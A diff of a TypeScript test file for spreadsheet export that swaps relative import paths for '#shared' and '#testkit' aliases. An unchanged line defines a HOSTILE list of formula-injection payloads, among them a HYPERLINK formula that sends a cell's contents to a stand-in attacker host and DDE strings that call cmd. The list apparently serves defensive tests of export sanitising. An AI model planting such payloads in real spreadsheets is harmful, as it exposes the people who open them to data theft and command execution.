@@ -10,12 +10,12 @@ import ExcelJS from 'exceljs';
 import { strFromU8, unzipSync } from 'fflate';
 import { readdirSync, readFileSync } from 'node:fs';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { buildDigest, renderDigest } from '../../shared/digest';
-import type { Task } from '../../shared/domain/task';
-import { seedRegistry } from '../../shared/registry';
-import { buildTemplate, directoryLookup, parsePeriod } from '../../shared/templates';
-import { useLocalStack } from '../helpers/local-stack';
-import { upload } from '../resilience/world';
+import { buildDigest, renderDigest } from '#shared/digest';
+import type { Task } from '#shared/domain/task';
+import { seedRegistry } from '#shared/registry';
+import { buildTemplate, directoryLookup, parsePeriod } from '#shared/templates';
+import { useLocalStack } from '#testkit/local-stack';
+import { upload } from '#testkit/resilience-world';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1'];
 const env = useLocalStack();
